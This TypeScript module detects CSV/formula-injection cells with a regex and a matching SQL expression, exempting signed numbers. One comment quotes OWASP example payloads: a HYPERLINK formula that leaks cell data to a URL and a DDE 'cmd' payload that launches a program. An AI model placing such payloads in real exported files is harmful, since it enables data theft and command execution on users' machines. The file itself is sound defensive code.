import {
  INVISIBLE,
  WHITESPACE,
  classChars,
  cleanCell,
  narrowCell,
  narrowedCellSql,
} from './clean-cell.ts';
import { SIGNED_NUMBER_PATTERN } from './number-grammar.ts';
import { regexLiteral as rx } from './sql-quote.ts';

// CSV/formula injection (OWASP): a spreadsheet evaluates a cell that starts with = + - @ or with a
// tab or carriage return, e.g. `=HYPERLINK("http://x?"&A1)` or `@SUM(1+1)*cmd|' /C calc'!A0`.
// Invisible characters and spaces before the sign do not make it safe. A signed number (`-5`,
// `+1,234.5`, `-12%`) is not a formula.

export const FORMULA_START_PATTERN = `^[${classChars(INVISIBLE)}]*(?:[${classChars('\t\r')}]|[${classChars(WHITESPACE + INVISIBLE)}]*[=+@-])`;

const formulaStartRe = new RegExp(FORMULA_START_PATTERN, 'u');
const signedNumberRe = new RegExp(SIGNED_NUMBER_PATTERN, 'u');

export function isFormulaLike(raw: string | null): boolean {
  if (raw === null || !formulaStartRe.test(raw)) return false;
  return !signedNumberRe.test(narrowCell(cleanCell(raw)));
}

/** Boolean SQL (never NULL) over the raw staged column. */
export function isFormulaLikeSql(col: string): string {
  return (
    `coalesce(regexp_matches(${col}, ${rx(FORMULA_START_PATTERN)}) ` +
    `AND NOT regexp_full_match(${narrowedCellSql(col)}, ${rx(SIGNED_NUMBER_PATTERN)}), false)`
  );
}
